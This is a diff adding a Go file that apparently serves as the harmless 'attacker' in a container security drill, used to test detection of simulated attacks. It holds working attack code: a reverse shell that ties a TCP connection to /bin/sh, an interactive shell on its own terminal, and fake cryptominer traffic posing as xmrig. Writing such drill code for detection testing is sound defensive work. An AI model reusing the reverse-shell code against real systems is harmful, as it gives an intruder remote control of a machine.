@@ -1,0 +1,125 @@
+package main
+
+import (
+	"bufio"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"os/signal"
+	"syscall"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// attackCommand and attackEnv make this program the drill's harmless attacker: it connects only to the drill's own
+// peer, mines nothing, and ends with the drill.
+const (
+	attackCommand = "__drill-attack"
+	attackEnv     = "STANCH_DRILL_ATTACK"
+)
+
+// attackMain is the first process of the drill's container: it waits until its network is there, then becomes the
+// attack that was asked for. args: KIND ADDR.
+func attackMain(args []string) int {
+	if len(args) != 2 {
+		return 2
+	}
+	kind, address := args[0], args[1]
+	if kind == "miner" {
+		return mine(address)
+	}
+	// The drill closes standard input's other end when the network is set up.
+	_, _ = bufio.NewReader(os.Stdin).ReadByte()
+	self, err := os.Executable()
+	if err != nil {
+		return 1
+	}
+	env := append(os.Environ(), attackEnv+"=miner "+address)
+	switch kind {
+	case "wait":
+		// A sibling: it only sends.
+		return mine(address)
+	case "cryptominer":
+		err = syscall.Exec(self, []string{"xmrig", "--url", "stratum+tcp://" + address, "--donate-level", "1"}, env)
+	case "shell":
+		go mine(address)
+		err = terminalShell()
+	case "reverse-shell":
+		err = reverseShell(address)
+	}
+	fmt.Fprintln(os.Stderr, "drill attack:", err)
+	return 1
+}
+
+// mine sends a line every 50 ms, as a miner would its shares.
+func mine(address string) int {
+	ended := make(chan os.Signal, 1)
+	signal.Notify(ended, syscall.SIGTERM)
+	go func() { <-ended; os.Exit(0) }()
+	for n := 0; ; {
+		c, err := net.DialTimeout("tcp", address, 2*time.Second) //nolint:noctx // until killed
+		if err != nil {
+			time.Sleep(100 * time.Millisecond)
+			continue
+		}
+		for ; ; n++ {
+			if _, err := fmt.Fprintf(c, "{\"id\":%d,\"method\":\"submit\"}\n", n); err != nil {
+				break
+			}
+			time.Sleep(50 * time.Millisecond)
+		}
+		_ = c.Close()
+	}
+}
+
+// terminalShell runs a shell on a terminal of its own.
+func terminalShell() error {
+	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
+	if err != nil {
+		return fmt.Errorf("open a terminal: %w", err)
+	}
+	if err := unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0); err != nil {
+		return fmt.Errorf("open a terminal: %w", err)
+	}
+	n, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
+	if err != nil {
+		return fmt.Errorf("open a terminal: %w", err)
+	}
+	slave, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", n), os.O_RDWR, 0)
+	if err != nil {
+		return fmt.Errorf("open a terminal: %w", err)
+	}
+	shell := exec.Command("/bin/sh", "-i") //nolint:noctx // until killed
+	shell.Stdin, shell.Stdout, shell.Stderr = slave, slave, slave
+	shell.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
+	if err := shell.Start(); err != nil {
+		return fmt.Errorf("start a shell: %w", err)
+	}
+	if err := shell.Wait(); err != nil {
+		return fmt.Errorf("the shell ended: %w", err)
+	}
+	return nil
+}
+
+// reverseShell connects and becomes a shell that reads from and writes to the connection.
+func reverseShell(address string) error {
+	c, err := net.DialTimeout("tcp", address, 5*time.Second) //nolint:noctx // at once
+	if err != nil {
+		return fmt.Errorf("connect: %w", err)
+	}
+	f, err := c.(*net.TCPConn).File()
+	if err != nil {
+		return fmt.Errorf("connect: %w", err)
+	}
+	for fd := range 3 {
+		if err := unix.Dup2(int(f.Fd()), fd); err != nil {
+			return fmt.Errorf("connect: %w", err)
+		}
+	}
+	if err := unix.SetNonblock(0, false); err != nil {
+		return fmt.Errorf("connect: %w", err)
+	}
+	return syscall.Exec("/bin/sh", []string{"sh"}, os.Environ()) //nolint:wrapcheck // does not return
+}
